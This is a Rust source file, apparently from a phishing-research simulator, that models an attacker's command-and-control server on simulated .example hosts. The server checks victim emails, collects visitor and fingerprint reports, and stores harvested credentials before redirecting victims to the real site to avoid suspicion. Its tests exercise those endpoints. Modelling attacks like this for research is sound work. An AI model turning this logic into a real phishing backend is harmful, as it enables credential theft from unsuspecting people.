//! The attacker's command-and-control server.
//!
//! Phishing pages POST visitor data here before revealing content (§V-C2 e:
//! "phishing websites send AJAX requests including user data, before
//! loading the malicious landing page"), check victims against the target
//! database, and deliver harvested credentials.

use cb_netsim::{HttpRequest, HttpResponse, NetContext, SiteHandler};
use std::collections::BTreeSet;
use std::sync::{Arc, Mutex, PoisonError};

/// Shared C2 state (the handler is cloned into the site registry).
#[derive(Debug, Default)]
struct C2State {
    victims: BTreeSet<String>,
    harvested: Vec<String>,
    visitor_reports: Vec<String>,
    fingerprint_reports: Vec<String>,
    victim_checks: Vec<(String, bool)>,
}

/// The C2 server handler.
#[derive(Debug, Clone, Default)]
pub struct C2Server {
    state: Arc<Mutex<C2State>>,
}

impl C2Server {
    /// A C2 with an empty victim database.
    pub fn new() -> C2Server {
        C2Server::default()
    }

    /// Add a targeted victim email.
    pub fn add_victim(&self, email: &str) -> &Self {
        let email = email.to_ascii_lowercase();
        self.state
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .victims
            .insert(email);
        self
    }

    /// Credentials harvested so far (raw POST bodies).
    pub fn harvested(&self) -> Vec<String> {
        self.state
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .harvested
            .clone()
    }

    /// Visitor-data exfil reports received.
    pub fn visitor_reports(&self) -> Vec<String> {
        self.state
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .visitor_reports
            .clone()
    }

    /// Fingerprint-library reports received.
    pub fn fingerprint_reports(&self) -> Vec<String> {
        self.state
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .fingerprint_reports
            .clone()
    }

    /// `(email, was_known)` victim-check lookups served.
    pub fn victim_checks(&self) -> Vec<(String, bool)> {
        self.state
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .victim_checks
            .clone()
    }
}

impl SiteHandler for C2Server {
    fn handle(&self, req: &HttpRequest, _ctx: &NetContext<'_>) -> HttpResponse {
        let body = String::from_utf8_lossy(&req.body).into_owned();
        let mut st = self.state.lock().unwrap_or_else(PoisonError::into_inner);
        match req.url.path.as_str() {
            p if p == crate::infrastructure::VICTIM_CHECK_PATH => {
                let email = body.trim().to_ascii_lowercase();
                let known = st.victims.contains(&email);
                st.victim_checks.push((email, known));
                HttpResponse::ok(
                    "text/plain",
                    if known {
                        b"yes".to_vec()
                    } else {
                        b"no".to_vec()
                    },
                )
            }
            p if p == crate::infrastructure::COLLECT_PATH => {
                st.visitor_reports.push(body);
                HttpResponse::ok("text/plain", b"ok".to_vec())
            }
            "/fp" => {
                st.fingerprint_reports.push(body);
                HttpResponse::ok("text/plain", b"ok".to_vec())
            }
            "/harvest" => {
                st.harvested.push(body);
                // redirect the victim to the real site to avoid suspicion
                HttpResponse::redirect("https://login.amadora.example/")
            }
            "/debug-detected" => HttpResponse::ok("text/plain", b"ok".to_vec()),
            _ => HttpResponse::not_found(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_netsim::Internet;
    use cb_sim::SimTime;

    fn hosted_c2() -> (Internet, C2Server) {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("c2.example", "REGRU-RU");
        let c2 = C2Server::new();
        net.host("c2.example", c2.clone());
        (net, c2)
    }

    #[test]
    fn victim_checks_answer_from_database() {
        let (net, c2) = hosted_c2();
        c2.add_victim("alice@corp.example");
        let yes = net.request(HttpRequest::post(
            "https://c2.example/check-victim",
            b"Alice@corp.example",
        ));
        assert_eq!(yes.body_text(), "yes");
        let no = net.request(HttpRequest::post(
            "https://c2.example/check-victim",
            b"mallory@corp.example",
        ));
        assert_eq!(no.body_text(), "no");
        assert_eq!(
            c2.victim_checks(),
            [
                ("alice@corp.example".to_string(), true),
                ("mallory@corp.example".to_string(), false)
            ]
        );
    }

    #[test]
    fn harvest_collects_and_redirects_to_real_site() {
        let (net, c2) = hosted_c2();
        let resp = net.request(HttpRequest::post(
            "https://c2.example/harvest",
            b"username=alice&password=hunter2",
        ));
        assert!(resp.is_redirect());
        assert_eq!(c2.harvested(), ["username=alice&password=hunter2"]);
    }

    #[test]
    fn collect_and_fp_endpoints_accumulate() {
        let (net, c2) = hosted_c2();
        net.request(HttpRequest::post(
            "https://c2.example/collect",
            b"ip=1.2.3.4",
        ));
        net.request(HttpRequest::post("https://c2.example/fp", b"wd=false"));
        assert_eq!(c2.visitor_reports(), ["ip=1.2.3.4"]);
        assert_eq!(c2.fingerprint_reports(), ["wd=false"]);
    }

    #[test]
    fn unknown_paths_404() {
        let (net, _) = hosted_c2();
        assert_eq!(
            net.request(HttpRequest::get("https://c2.example/x")).status,
            404
        );
    }
}
